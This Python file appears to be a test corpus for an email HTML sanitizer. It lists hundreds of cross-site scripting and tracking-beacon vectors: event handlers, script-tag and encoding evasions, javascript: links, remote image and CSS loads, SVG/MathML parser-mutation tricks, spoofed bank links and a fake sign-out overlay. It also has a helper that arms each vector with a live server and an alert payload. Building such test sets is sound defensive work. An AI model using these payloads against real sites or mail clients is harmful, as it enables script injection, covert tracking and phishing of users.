"""HTML that wants to run a script or to tell a server that a mail was opened: each a piece of a mail's body.

BEACON stands for a server that listens, RUN for a script that leaves a trace.
"""

from __future__ import annotations

_HANDLERS = """
<img src=x onerror=RUN>
<img src=x onerror="RUN">
<img/src=x/onerror=RUN>
<img src=x onerror =RUN>
<img src=x ONERROR=RUN>
<img src="x"onerror=RUN>
<img src=x onerror&#61;RUN onerror=RUN>
<img src=x:x onerror=RUN//>
<img src=BEACON/a onload=RUN>
<img \x0b src=x \x0c onerror=RUN>
<img src=x\x00 onerror=RUN>
<im\x00g src=x onerror=RUN>
<img src=x on\x00error=RUN>
<img src=x onerror=RUN <b>x</b>
<body onload=RUN>
<body onpageshow=RUN>
<div onclick=RUN>press</div>
<div onmouseover=RUN style="width:4000px;height:4000px">x</div>
<div onpointerenter=RUN>x</div>
<p onanimationstart=RUN style="animation:x 1s">x</p>
<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=RUN>x</p>
<p style="transition:color 1s" ontransitionend=RUN>x</p>
<input autofocus onfocus=RUN>
<a href=x autofocus tabindex=1 onfocus=RUN>x</a>
<details open ontoggle=RUN><summary>x</summary>y</details>
<marquee onstart=RUN>x</marquee>
<marquee loop=1 width=0 onfinish=RUN>x</marquee>
<video onloadstart=RUN src=BEACON/v></video>
<video><source onerror=RUN src=BEACON/s></video>
<audio src=BEACON/a onerror=RUN>
<select autofocus onfocus=RUN><option>x</select>
<textarea autofocus onfocus=RUN>x</textarea>
<keygen autofocus onfocus=RUN>
<button onfocus=RUN autofocus>x</button>
<table onmouseenter=RUN background=BEACON/t><td>x</table>
<iframe onload=RUN></iframe>
<object onerror=RUN data=x></object>
<link rel=stylesheet href=data:,a onload=RUN>
<style onload=RUN></style>
<svg onload=RUN></svg>
<svg/onload=RUN>
<p oncontentvisibilityautostatechange=RUN style="display:block;content-visibility:auto">x</p>
<div onscrollend=RUN style="overflow:auto">x</div>
<p onbeforeprint=RUN>x</p>
<meter onmouseover=RUN value=2>x</meter>
<b contenteditable onbeforeinput=RUN>x</b>
<xss onfocusin=RUN tabindex=1 autofocus>x</xss>
<x-a onclick=RUN style=all:unset>x</x-a>
"""

_SCRIPTS = """
<script>RUN</script>
<SCRIPT>RUN</SCRIPT>
<script src=BEACON/s.js></script>
<script src=//127.0.0.1/s.js></script>
<script/x>RUN</script>
<script\x0c>RUN</script>
<scr<script>ipt>RUN</scr</script>ipt>
<scr\x00ipt>RUN</scr\x00ipt>
<<script>RUN//<</script>
<script type=module>RUN</script>
<script type="text/vbscript">RUN</script>
<script>/*<!--*/RUN/*-->*/</script>
<script async src=BEACON/async.js></script>
<script nomodule>RUN</script>
<script>RUN
<script>RUN</script
<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>
<template><script>RUN</script></template>
<div><template shadowrootmode=open><img src=x onerror=RUN></template></div>
&lt;script&gt;RUN&lt;/script&gt;
&#60;script&#62;RUN&#60;/script&#62;
&#x3c;img src=x onerror=RUN&#x3e;
%3Cscript%3ERUN%3C/script%3E
\uff1cscript\uff1eRUN\uff1c/script\uff1e
+ADw-script+AD4-RUN+ADw-/script+AD4-
<\u017fcript>RUN</\u017fcript>
<!--<script>RUN</script>-->
<!--><script>RUN</script>-->
<!---><img src=x onerror=RUN>-->
<!--[if IE]><script>RUN</script><![endif]-->
<!--[if gte mso 9]><img src=BEACON/mso><![endif]-->
<![if !mso]><img src=x onerror=RUN><![endif]>
<![CDATA[<img src=x onerror=RUN>]]>
<?xml version="1.0"?><script>RUN</script>
<?php echo "<script>RUN</script>" ?>
<!DOCTYPE x [<!ENTITY y "<script>RUN</script>">]>&y;
<!DOCTYPE x SYSTEM "BEACON/x.dtd"><p>x</p>
<xml><i><b><img src=1 onerror=RUN></b></i></xml>
<html manifest=BEACON/m><body>x
</div></div></body></html><script>RUN</script>
</p></blockquote></td></tr></table><img src=x onerror=RUN>
"></p><script>RUN</script>
'><img src=x onerror=RUN>
"""

_LINKS = """
<a href="javascript:RUN">x</a>
<a href="JaVaScRiPt:RUN">x</a>
<a href=" javascript:RUN">x</a>
<a href="\x01javascript:RUN">x</a>
<a href="java\tscript:RUN">x</a>
<a href="java&#10;script:RUN">x</a>
<a href="java&Tab;script:RUN">x</a>
<a href="java&NewLine;script:RUN">x</a>
<a href="javascript&colon;RUN">x</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;RUN">x</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;RUN">x</a>
<a href="javascript://example.com/%0aRUN">x</a>
<a href="view-source:javascript:RUN">x</a>
<a href="vbscript:RUN">x</a>
<a href="livescript:RUN">x</a>
<a href="data:text/html,<script>RUN</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="blob:BEACON/1">x</a>
<a href="file:///etc/passwd">x</a>
<a href="ms-msdt:/id x">x</a>
<a href="tel:1">x</a>
<a href="//127.0.0.1/x">x</a>
<a href="https:/\\127.0.0.1/x">x</a>
<a href="https:127.0.0.1">x</a>
<a href="https://bank.example\\@evil.example/">https://bank.example/</a>
<a href="https://bank.example@evil.example/">https://bank.example/</a>
<a href="/relative">x</a>
<a href="#top" onclick=RUN>x</a>
<a ping=BEACON/ping href="https://example.com/">x</a>
<a href="https://example.com/" target=_blank rel=opener>x</a>
<a href="https://example.com/" attributionsrc=BEACON/attr>x</a>
<a href="x" style="position:fixed;inset:0" onclick=RUN>x</a>
<a href="https://example.com/" download=x.exe>x</a>
<a xlink:href="javascript:RUN">x</a>
<a href='https://example.com/" onmouseover="RUN'>x</a>
<a href="https://example.com/`onmouseover=RUN`">x</a>
<area href="javascript:RUN" shape=default>
<map name=m><area href="javascript:RUN" shape=rect coords=0,0,999,999></map><img usemap=#m src=x>
<form action="javascript:RUN"><input type=submit value=x></form>
<form action=BEACON/form><button>x</button></form>
<form id=f></form><button form=f formaction="javascript:RUN">x</button>
<form action=BEACON/f><input type=image src=BEACON/i></form>
<isindex action="javascript:RUN" type=image>
<input type=image src=BEACON/input>
<math><a xlink:href="javascript:RUN">x</a></math>
<svg><a xlink:href="javascript:RUN"><text y=20>x</text></a></svg>
<svg><a><animate attributeName=href values="javascript:RUN" /><text y=20>x</text></a></svg>
<base href="javascript:RUN//"><a href=x>x</a>
<base href=BEACON/base/><img src=i.png>
"""

_LOADS = """
<img src=BEACON/i>
<img src="BEACON/i?open=1" width=1 height=1 alt="">
<img src=//127.0.0.1/x alt=logo>
<img src="&#104;ttp://127.0.0.1/x">
<img src=" BEACON/space">
<img src="ht\ttp://127.0.0.1/x">
<img src=cid:none@none>
<img src="cid:x@y/../../BEACON">
<img src="cid:BEACON">
<img src="CID:a@b" srcset="BEACON/2x 2x">
<img srcset="BEACON/a 1x, BEACON/b 2x">
<img src=x imagesrcset=BEACON/s>
<img lowsrc=BEACON/low src=x>
<img dynsrc=BEACON/dyn src=x>
<img longdesc=BEACON/long src=x>
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>">
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<img src="data:image/png;base64,AAAA" onerror=RUN>
<img src="file:///etc/passwd">
<img src="\\\\127.0.0.1\\share\\x.png">
<img src="file://127.0.0.1/share/x">
<img loading=lazy src=BEACON/lazy>
<img crossorigin src=BEACON/cross>
<image src=BEACON/image>
<image href=BEACON/image2>
<picture><source srcset=BEACON/p><img src=x></picture>
<picture><source media="(min-width:1px)" srcset=BEACON/pm><img alt=x></picture>
<video poster=BEACON/poster></video>
<video src=BEACON/video autoplay muted></video>
<video><track default src=BEACON/track kind=captions></video>
<audio autoplay src=BEACON/audio></audio>
<embed src=BEACON/embed>
<object data=BEACON/object></object>
<object data="javascript:RUN"></object>
<object type="text/x-scriptlet" data=BEACON/o></object>
<object><param name=src value=BEACON/param><param name=code value="javascript:RUN"></object>
<applet code=x archive=BEACON/applet></applet>
<iframe src=BEACON/frame></iframe>
<iframe src="javascript:RUN"></iframe>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<iframe srcdoc="&lt;img src=BEACON/srcdoc&gt;"></iframe>
<frameset onload=RUN><frame src=BEACON/fs></frameset>
<portal src=BEACON/portal></portal>
<fencedframe src=BEACON/fenced></fencedframe>
<body background=BEACON/body>
<table background=BEACON/table><td background=BEACON/td>x</table>
<input type=image src=BEACON/input src=x>
<bgsound src=BEACON/sound>
<layer src=BEACON/layer></layer>
<ilayer src=BEACON/ilayer></ilayer>
<link rel=stylesheet href=BEACON/css>
<link rel=preload as=image href=BEACON/preload>
<link rel=prefetch href=BEACON/prefetch>
<link rel=modulepreload href=BEACON/module>
<link rel=preconnect href=BEACON>
<link rel=dns-prefetch href=//beacon.invalid>
<link rel=prerender href=BEACON/prerender>
<link rel=icon href=BEACON/icon>
<link rel=import href=BEACON/import>
<link rel=manifest href=BEACON/manifest>
<link rel="shortcut icon" href=BEACON/shortcut>
<meta http-equiv=refresh content="0;url=BEACON/refresh">
<meta http-equiv=refresh content="0;url=javascript:RUN">
<meta http-equiv=refresh content="0;url=data:text/html,<script>RUN</script>">
<meta http-equiv=Link content="<BEACON/link>; rel=stylesheet">
<meta http-equiv=Set-Cookie content="a=b">
<meta http-equiv=x-dns-prefetch-control content=on><a href="http://beacon.invalid/">x</a>
<meta name=referrer content=unsafe-url><img src=BEACON/ref>
<script type=speculationrules>{"prefetch":[{"urls":["BEACON/spec"]}]}</script>
<script type=importmap>{"imports":{"x":"BEACON/map"}}</script>
<v:image src=BEACON/vml></v:image>
<v:rect><v:fill type=frame src=BEACON/fill /></v:rect>
<o:p><img src=BEACON/op></o:p>
<x:y xmlns:x=http://www.w3.org/1999/xhtml><x:img src=BEACON/ns></x:y>
<div itemscope itemtype=BEACON/t><link itemprop=image href=BEACON/item></div>
<blockquote cite=BEACON/cite>x</blockquote>
<q cite="javascript:RUN">x</q>
<ins cite=BEACON/ins>x</ins>
<canvas id=c></canvas><script>RUN</script>
"""

_STYLES = """
<style>@import "BEACON/import.css";</style>
<style>@import url(BEACON/import2.css);</style>
<style>body{background:url(BEACON/bg)}</style>
<style>*{list-style-image:url(BEACON/li)}</style><li>x</li>
<style>@font-face{font-family:x;src:url(BEACON/font)}p{font-family:x}</style><p>x</p>
<style>p::before{content:url(BEACON/content)}</style><p>x</p>
<style>div{cursor:url(BEACON/cursor),auto}</style>
<style>p{background:image-set("BEACON/set" 1x)}</style><p>x</p>
<style>a[href^=h]{background:url(BEACON/leak)}</style><a href="https://example.com/">x</a>
<style>p{behavior:url(BEACON/htc)}</style><p>x</p>
<style>p{-moz-binding:url(BEACON/xbl)}</style><p>x</p>
<style><!--</style><img src=x onerror=RUN>--></style>
<style><img src="</style><img src=x onerror=RUN>"></style>
<style></style\x00><img src=x onerror=RUN></style>
<p style="background:url(BEACON/p)">x</p>
<p style="background-image:u\\72l(BEACON/esc)">x</p>
<p style="background:&#117;rl(BEACON/ent)">x</p>
<p style="list-style:url(BEACON/ls);display:list-item">x</p>
<p style="border-image:url(BEACON/bi) 1">x</p>
<p style="mask:url(BEACON/mask)">x</p>
<p style="filter:url(BEACON/f.svg#a)">x</p>
<p style="clip-path:url(BEACON/c.svg#a)">x</p>
<p style="shape-outside:url(BEACON/so);float:left">x</p>
<p style="content:url(BEACON/c)">x</p>
<p style="width:expression(RUN)">x</p>
<p style="xss:exp/**/ression(RUN)">x</p>
<p style="--a:url(BEACON/v);background:var(--a)">x</p>
<p style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff">You were signed out</p>
<p style='font-family:"x;background:url(BEACON/q)"'>x</p>
<p style="background:/*" title="*/url(BEACON/t)">x</p>
<div style="background:url('BEACON/s')"><p>x</div>
<link rel=stylesheet href="data:text/css,@import url(BEACON/d)">
<td style="background:url(BEACON/td)">x</td>
<font style="background:url(BEACON/font2)">x</font>
<hr style="background:url(BEACON/hr)">
"""

_FOREIGN = """
<svg><script>RUN</script></svg>
<svg><script href=BEACON/s.js></script></svg>
<svg><script xlink:href="data:,RUN"></script></svg>
<svg><image href=BEACON/si /></svg>
<svg><image xlink:href=BEACON/sx /></svg>
<svg><use href="BEACON/u.svg#a" /></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='RUN'/></svg>#x"/></svg>
<svg><feImage href=BEACON/fe /></svg>
<svg><style>@import "BEACON/ss";</style></svg>
<svg><style><img src=x onerror=RUN></style></svg>
<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>
<svg><foreignObject><iframe src=BEACON/fo></iframe></foreignObject></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s></svg>
<svg><set onbegin=RUN attributeName=x to=1></svg>
<svg><desc><img src=x onerror=RUN></desc></svg>
<svg><title><img src=x onerror=RUN></title></svg>
<svg></p><style><a title="</style><img src=x onerror=RUN>"></svg>
<svg><p><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;"></p></svg>
<svg><a><rect width=99 height=99 /><animate attributeName=href to="javascript:RUN" /></a></svg>
<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>RUN</handler></svg>
<svg><cursor xlink:href=BEACON/cur /></svg>
<svg style="background:url(BEACON/sb)" width=9 height=9></svg>
<math href="javascript:RUN">x</math>
<math><mtext><img src=x onerror=RUN></mtext></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=RUN></annotation-xml></math>
<math><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img src=x onerror=RUN&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>
<math><mi><p><a><style><a id="</style><img src=x onerror=RUN>"></a></p></mi></math>
<math><maction actiontype=statusline xlink:href="javascript:RUN">x</maction></math>
<table><tr><td><svg><desc><td></desc></svg><img src=x onerror=RUN></table>
<select><noembed></select><script>'RUN'</script><img src=x onerror=RUN>
<noembed><img title="</noembed><img src=x onerror=RUN>"></noembed>
<noframes><img title="</noframes><img src=x onerror=RUN>"></noframes>
<xmp><p title="</xmp><img src=x onerror=RUN>"></xmp>
<listing>&lt;img src=x onerror=RUN&gt;</listing>
<plaintext><img src=x onerror=RUN>
<textarea><p title="</textarea><img src=x onerror=RUN>"></textarea>
<title><p title="</title><img src=x onerror=RUN>"></title>
<iframe><p title="</iframe><img src=x onerror=RUN>"></iframe>
<option><style></option></select><b><img src=x onerror=RUN></style></option>
<p id="a" title="`><img src=x onerror=RUN>">x</p>
<p title="&lt;/p&gt;&lt;img src=x onerror=RUN&gt;">x</p>
<img alt="<x" title="/><img src=x onerror=RUN>">
<img alt="``onerror=RUN" src=x>
<img alt='"><script>RUN</script>' src=BEACON/alt>
<img alt="\ue0f4<script>RUN</script>\ue0f3" src=BEACON/mark>
<img alt="&#xe0f3;&lt;script&gt;RUN&lt;/script&gt;" src=BEACON/entity>
<p>\ue0f3<b>x</b>\ue0f4\ufdd0\ufdd5</p>
<p>&#xfdd5;&#xfdd0;<img src=x onerror=RUN></p>
<a href="https://example.com/"><img src=BEACON/in alt="<b>"></a>
<details><summary><img src=x onerror=RUN></summary></details>
<dialog open><form method=dialog><button autofocus onfocus=RUN>x</button></form></dialog>
<slot><img src=x onerror=RUN></slot>
<p is=x-y onclick=RUN popover>x</p>
<b><b><b><p><table><b><td><a href="javascript:RUN"><svg><b>x
<table><a href="javascript:RUN"><tr><img src=x onerror=RUN></tr></a></table>
<p/><a/href=javascript:RUN/>x
<p><p><p></b></i></a><img src=x onerror=RUN
<img src=x onerror=RUN/
<a href=https://example.com/ onmouseover=RUN x=">x</a>
\u202e<img src=x onerror=RUN>\u202c
\ufeff<script>RUN</script>
<\u200bscript>RUN</script>
<img\u00a0src=x\u00a0onerror=RUN>
<img\u3000src=x onerror=RUN>
"""

VECTORS = tuple(
    line for table in (_HANDLERS, _SCRIPTS, _LINKS, _LOADS, _STYLES, _FOREIGN) for line in table.strip("\n").split("\n")
)


def armed(vector: str, beacon: str) -> str:
    """The vector with a real server and a script that leaves `window.hit` and opens a dialog."""
    return vector.replace("BEACON", beacon).replace("RUN", "(top.hit=1,alert(1))")
